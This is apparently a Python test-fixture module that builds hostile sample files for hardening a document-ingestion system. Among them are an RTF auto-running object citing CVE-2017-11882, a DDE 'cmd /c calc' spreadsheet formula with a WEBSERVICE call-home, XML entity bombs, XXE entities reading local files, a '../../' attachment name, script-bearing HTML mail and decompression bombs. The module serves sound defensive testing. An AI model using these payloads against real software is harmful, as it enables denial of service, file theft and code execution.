"""Hostile files of the other formats: Rich Text, old Word, spreadsheets, mail, envelopes, pictures."""

from __future__ import annotations

import base64
import struct
import zlib
from random import Random

from samples.hostile.archives import deflated, with_part
from samples.hostile.base import Trap, file_item, paragraph, word, zipped

_MIB = 1024 * 1024
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "hahahahahahahaha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)


@file_item("rtf-deep-groups", "phu-luc.rtf")
def _rtf(trap: Trap) -> bytes:
    return b"{\\rtf1\\ansi " + b"{" * 100_000 + b"Phu luc" + b"}" * 100_000 + b"}"


@file_item("rtf-object-and-link", "phu-luc.rtf")
def _rtf_object(trap: Trap) -> bytes:
    """An object that old Word runs by itself (CVE-2017-11882, CVE-2017-0199), a template and a picture elsewhere."""
    parts = (
        "{\\rtf1\\ansi{\\*\\template " + trap.address + "/mau.dot}",
        "{\\object\\objautlink\\objupdate\\rsltpict{\\*\\objclass Equation.3}{\\*\\objdata " + "d0cf11e0" * 500 + "}}",
        '{\\field{\\*\\fldinst INCLUDEPICTURE "' + trap.address + '/dem.png" \\\\d}{\\fldrslt }}',
        '{\\field{\\*\\fldinst INCLUDETEXT "' + trap.file.as_uri() + '"}{\\fldrslt }}',
        "Phu luc kem theo.\\par}",
    )
    return "".join(parts).encode()


@file_item("rtf-truncated", "phu-luc.rtf")
def _rtf_truncated(trap: Trap) -> bytes:
    return b"{\\rtf1\\ansi{\\fonttbl{\\f0 Times New Ro"


def _ole(names: bytes, *, loop: bool) -> bytes:
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[24:34] = b"\x3e\x00\x03\x00\xfe\xff\x09\x00\x06\x00"
    header[44:52] = (1).to_bytes(4, "little") + (1).to_bytes(4, "little")
    header[56:76] = struct.pack("<5I", 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    header[76:512] = bytes(4) + b"\xff" * 432
    # Sector 1 is the directory, the stream begins at sector 2; in a loop each sector of it is followed by the first.
    chain = [2] * 16 if loop else [*range(3, 18), 0xFFFFFFFE]
    table = struct.pack("<18I", 0xFFFFFFFD, 0xFFFFFFFE, *chain)
    return bytes(header) + table.ljust(512, b"\xff") + names


def _entry(name: str, kind: int, child: int = 0xFFFFFFFF, start: int = 0xFFFFFFFE, size: int = 0) -> bytes:
    raw = name.encode("utf-16-le")
    entry = bytearray(128)
    entry[: len(raw)] = raw
    entry[64:68] = struct.pack("<HBB", len(raw) + 2, kind, 1)
    entry[68:80] = struct.pack("<3I", 0xFFFFFFFF, 0xFFFFFFFF, child)
    entry[116:124] = struct.pack("<II", start, size)
    return bytes(entry)


_WORD_97 = struct.pack("<2H", 0xA5EC, 0x00C1)


@file_item("doc-circular-sectors", "phu-luc.doc")
def _doc_loop(trap: Trap) -> bytes:
    names = _entry("Root Entry", 5, 1) + _entry("WordDocument", 2, start=2, size=0x7FFFFFFF) + bytes(256)
    return _ole(names, loop=True) + _WORD_97 + Random(7).randbytes(8192 - len(_WORD_97))


@file_item("doc-garbage", "phu-luc.doc")
def _doc_garbage(trap: Trap) -> bytes:
    names = _entry("Root Entry", 5, 1) + _entry("WordDocument", 2, start=2, size=8192) + bytes(256)
    return _ole(names, loop=False) + _WORD_97 + Random(8).randbytes(8192 - len(_WORD_97))


@file_item("xls-garbage", "danh-sach.xls")
def _xls_garbage(trap: Trap) -> bytes:
    names = _entry("Root Entry", 5, 1) + _entry("Workbook", 2, start=2, size=8192) + bytes(256)
    return _ole(names, loop=False) + Random(9).randbytes(8192)


def _workbook(sheet: str | bytes, parts: dict[str, str | bytes] | None = None) -> bytes:
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    return zipped(
        {
            "[Content_Types].xml": (
                '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                f'<Override PartName="/xl/workbook.xml" ContentType="{main}.sheet.main+xml"/>'
                f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{main}.worksheet+xml"/></Types>'
            ),
            "_rels/.rels": (
                f'<Relationships xmlns="{_RELATIONS}"><Relationship Id="r1" Type="{_OFFICE}/officeDocument" '
                'Target="xl/workbook.xml"/></Relationships>'
            ),
            "xl/workbook.xml": (
                f'<workbook xmlns="{_SHEET}" xmlns:r="{_OFFICE}"><sheets>'
                '<sheet name="Danh sách" sheetId="1" r:id="r1"/></sheets></workbook>'
            ),
            "xl/_rels/workbook.xml.rels": (
                f'<Relationships xmlns="{_RELATIONS}"><Relationship Id="r1" Type="{_OFFICE}/worksheet" '
                'Target="worksheets/sheet1.xml"/></Relationships>'
            ),
            "xl/worksheets/sheet1.xml": sheet,
            **(parts or {}),
        }
    )


def _sheet(rows: str, declaration: str = "") -> str:
    return f'<?xml version="1.0"?>{declaration}<worksheet xmlns="{_SHEET}"><sheetData>{rows}</sheetData></worksheet>'


def _cell(at: str, text: str) -> str:
    return f'<c r="{at}" t="inlineStr"><is><t>{text}</t></is></c>'


@file_item("xlsx-far-cell", "danh-sach.xlsx")
def _far_cell(trap: Trap) -> bytes:
    """Two cells at the ends of the largest sheet: 17 thousand million cells for a reader that fills the square."""
    far = f'<row r="1048576">{_cell("XFD1048576", "Cuối")}</row>'
    return _workbook(_sheet(f'<row r="1">{_cell("A1", "Đầu")}</row>{far}'))


@file_item("xlsx-formula-and-link", "danh-sach.xlsx")
def _formula(trap: Trap) -> bytes:
    formula = f'<c r="B1"><f>WEBSERVICE("{trap.address}/gui")+cmd|\'/c calc\'!A1</f><v>7</v></c>'
    return _workbook(_sheet(f'<row r="1">{_cell("A1", "Họ và tên")}{formula}</row>'))


@file_item("xlsx-entity-bomb", "danh-sach.xlsx")
def _sheet_bomb(trap: Trap) -> bytes:
    return _workbook(_sheet(f'<row r="1">{_cell("A1", "&i;")}</row>', _LAUGHS))


@file_item("xlsx-part-bomb", "danh-sach.xlsx")
def _part_bomb(trap: Trap) -> bytes:
    return with_part(_workbook(_sheet("")), b"xl/worksheets/sheet2.xml", *deflated(600 * _MIB), 600 * _MIB)


@file_item("xlsx-truncated", "danh-sach.xlsx")
def _sheet_truncated(trap: Trap) -> bytes:
    whole = _workbook(_sheet(f'<row r="1">{_cell("A1", "Họ và tên")}</row>'))
    return whole[: len(whole) // 2]


_HEAD = b"From: a@vi-du.vn\r\nTo: b@vi-du.vn\r\nSubject: Ho so\r\nMIME-Version: 1.0\r\n"


@file_item("mail-nested-multiparts", "thu.eml")
def _multiparts(trap: Trap) -> bytes:
    parts = [_HEAD]
    parts += [b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (n, n) for n in range(2000)]
    return b"".join(parts) + b"Content-Type: text/plain\r\n\r\nHo so kem theo.\r\n"


@file_item("mail-in-mail", "thu.eml")
def _mail_in_mail(trap: Trap) -> bytes:
    data = _HEAD + b"Content-Type: text/plain\r\n\r\nHo so kem theo.\r\n"
    for _ in range(60):
        data = _HEAD + b"Content-Type: message/rfc822\r\n\r\n" + data
    return data


@file_item("mail-attachment-that-climbs", "thu.eml")
def _attachment(trap: Trap) -> bytes:
    return (
        _HEAD
        + b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nHo so.\r\n--b\r\n'
        b'Content-Type: application/octet-stream; name="../../thoat.docx"\r\n'
        b'Content-Disposition: attachment; filename="../../thoat.docx"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        + base64.encodebytes(word(paragraph("Phụ lục.")))
        + b"\r\n--b--\r\n"
    )


@file_item("mail-html-that-calls-home", "thu.eml")
def _html_mail(trap: Trap) -> bytes:
    page = f"<html><img src='{trap.address}/dem.png'><script>alert(1)</script>Ho so kem theo.</html>"
    return _HEAD + b"Content-Type: text/html\r\n\r\n" + page.encode()


@file_item("envelope-entity-bomb", "phong-bi.edxml")
def _envelope(trap: Trap) -> bytes:
    return f'<?xml version="1.0"?>{_LAUGHS}<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016">&i;</edXML>'.encode()


@file_item("envelope-external-entity", "phong-bi.edxml")
def _envelope_external(trap: Trap) -> bytes:
    declaration = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{trap.file.as_uri()}"><!ENTITY n SYSTEM "{trap.address}/e">]>'
    return f'<?xml version="1.0"?>{declaration}<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016">&e;&n;</edXML>'.encode()


def _png(width: int, height: int, data: bytes) -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">2I5B", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


@file_item("picture-bomb", "anh.png")
def _picture(trap: Trap) -> bytes:
    """30,000 × 30,000 points in 110 KiB."""
    packer = zlib.compressobj(9)
    rows = bytes(3751) * 1000
    return _png(30_000, 30_000, b"".join([*(packer.compress(rows) for _ in range(30)), packer.flush()]))


@file_item("picture-size-lies", "anh.png")
def _picture_lies(trap: Trap) -> bytes:
    return _png(2_000_000_000, 2_000_000_000, zlib.compress(bytes(100)))


@file_item("picture-truncated", "anh.jpg")
def _jpg(trap: Trap) -> bytes:
    return (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03"
    )


@file_item("tiff-circular-pages", "anh.tif")
def _tif(trap: Trap) -> bytes:
    """The directory of the first page names itself as that of the next."""
    entries = ((256, 4, 1, 8), (257, 4, 1, 8), (258, 3, 1, 1), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 200),
               (278, 4, 1, 8), (279, 4, 1, 8))  # fmt: skip
    directory = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return (b"II*\x00" + struct.pack("<I", 8) + directory + struct.pack("<I", 8)).ljust(200, b"\x00") + b"\xaa" * 8


@file_item("gzip-bomb", "goi.gz")
def _gzip(trap: Trap) -> bytes:
    packed, crc = deflated(600 * _MIB)
    return b"\x1f\x8b\x08" + bytes(6) + b"\x03" + packed + struct.pack("<II", crc, 600 * _MIB)


@file_item("html-that-calls-home", "trang.html")
def _html(trap: Trap) -> bytes:
    return f"<html><script src='{trap.address}/a.js'></script><img src='{trap.file.as_uri()}'>Trang</html>".encode()


@file_item("text-of-one-line", "ghi-chu.txt")
def _one_line(trap: Trap) -> bytes:
    return b"a" * (20 * _MIB)


@file_item("random-bytes", "la.docx")
def _random(trap: Trap) -> bytes:
    return Random(7).randbytes(4096)
